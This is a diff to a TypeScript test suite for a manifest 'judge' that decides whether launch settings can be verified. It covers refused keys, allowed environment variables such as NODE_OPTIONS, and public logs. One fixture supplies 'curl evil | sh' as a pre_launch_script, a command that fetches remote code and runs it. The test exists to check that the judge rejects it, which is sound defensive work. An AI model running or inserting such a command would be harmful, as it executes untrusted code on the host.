@@ -174,7 +174,12 @@ describe("judge", () => {
     const refused = /^not verified: The app-compose manifest is not one that can be judged: .*Unrecognized key/;
     expect(line("code.launch", { pre_launch_script: "curl evil | sh" })).to.match(refused);
     expect(line("code.launch", { init_script: "x" })).to.match(refused);
-    expect(line("code.launch", { allowed_envs: ["RPC_URL"] })).to.equal("not verified: the host may set RPC_URL");
+    expect(line("code.launch", { allowed_envs: ["RPC_URL", "NODE_OPTIONS"] })).to.equal(
+      "not verified: the host may set NODE_OPTIONS",
+    );
+    expect(line("code.launch", { allowed_envs: ["RPC_URL"] })).to.equal(
+      "cannot be verified: SIMULATED: the platform measures the manifest, it does not launch from it",
+    );
     expect(line("code.launch", { public_logs: true })).to.equal("not verified: the containers' logs are public");
     expect(line("code.launch", { public_logs: undefined })).to.equal("not verified: the containers' logs are public");
     const compose = (image: string) => ({ docker_compose_file: `services:\n  worker:\n    image: ${image}\n` });
